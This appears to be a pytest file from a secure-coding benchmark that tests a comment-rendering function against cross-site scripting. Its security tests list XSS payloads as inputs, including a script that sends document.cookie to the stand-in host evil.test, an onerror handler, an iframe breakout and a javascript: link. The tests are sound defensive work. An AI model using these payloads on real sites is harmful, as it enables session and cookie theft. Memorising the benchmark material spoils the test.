from html.parser import HTMLParser

import pytest

from sectree_check import assert_same, exact
from cwe_079_0_task import render_comment


class _Page(HTMLParser):
    """What a browser would build: element start tags (with attributes) and text per element."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.stack = []
        self.text = {}

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        self.stack.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass

    def handle_data(self, data):
        if self.stack:
            self.text[self.stack[-1]] = self.text.get(self.stack[-1], "") + data


def _parse(markup):
    p = _Page()
    p.feed(markup)
    p.close()
    return p


@pytest.mark.functionality
def test_exact_markup_for_plain_text():
    assert_same(render_comment("alice", "Great post"), '<div class="comment"><b>alice</b><p>Great post</p></div>')


@pytest.mark.functionality
@pytest.mark.parametrize(
    "author,text",
    [
        ("Tom & Jerry", "Cats & mice, 100% agreed!"),
        ("O'Neil", 'She said "hello" twice'),
        ("Zoë", "Ünïcödé ✓ works"),
    ],
)
def test_text_renders_as_typed(author, text):
    page = _parse(exact(render_comment(author, text), str))
    assert_same([t for t, _ in page.tags], ["div", "b", "p"])
    assert_same(page.text["b"], author)
    assert_same(page.text["p"], text)


@pytest.mark.security
@pytest.mark.parametrize(
    "author,text",
    [
        pytest.param("mallory", "<script>fetch('//evil.test/?c='+document.cookie)</script>", id="script-in-text"),
        pytest.param("<img src=x onerror=alert(1)>", "hi", id="img-in-author"),
        pytest.param("bob", "</p></div><iframe src=//evil.test></iframe>", id="breakout"),
        pytest.param("eve", "<a href=\"javascript:alert(1)\">click</a>", id="js-link"),
    ],
)
def test_input_cannot_inject_markup(author, text):
    page = _parse(exact(render_comment(author, text), str))
    assert_same([t for t, _ in page.tags], ["div", "b", "p"])
    assert page.text.get("p", "") == text and page.text.get("b", "") == author
